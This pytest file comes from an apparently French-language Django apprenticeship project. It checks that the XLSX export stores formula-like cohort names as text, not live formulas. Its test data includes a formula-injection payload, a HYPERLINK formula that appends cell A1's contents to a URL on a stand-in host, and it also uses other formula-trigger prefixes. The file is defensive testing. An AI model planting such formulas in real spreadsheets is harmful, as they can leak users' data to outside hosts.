"""Issue 13 (C3): the XLSX export never writes a live formula: text typed by someone (a cohort's name) stays text,
as the CSV export already does with safe_cell."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from compagnons.core.spreadsheets import append_safe_row
from compagnons.outcomes.exports import indicators_xlsx
from tests.factories.apprenticeship import CohortFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://exemple.test/?"&A1,"Cliquez")'


def test_append_safe_row_writes_formula_like_text_as_text():
    sheet = Workbook().active
    append_safe_row(sheet, [FORMULA, "+33 6", "-2", "@SUM(A1)", "Normal", 12])
    assert [cell.data_type for cell in sheet[1]] == ["s", "s", "s", "s", "s", "n"]
    assert sheet["A1"].value == FORMULA


def test_a_cohort_named_like_a_formula_is_text_in_the_xlsx_export(formateur):
    CohortFactory(name=FORMULA, formateur=formateur)
    sheet = load_workbook(io.BytesIO(indicators_xlsx())).worksheets[0]
    cell = sheet["A2"]
    assert cell.value == FORMULA
    assert cell.data_type == "s"  # openpyxl reads a live formula back as "f"
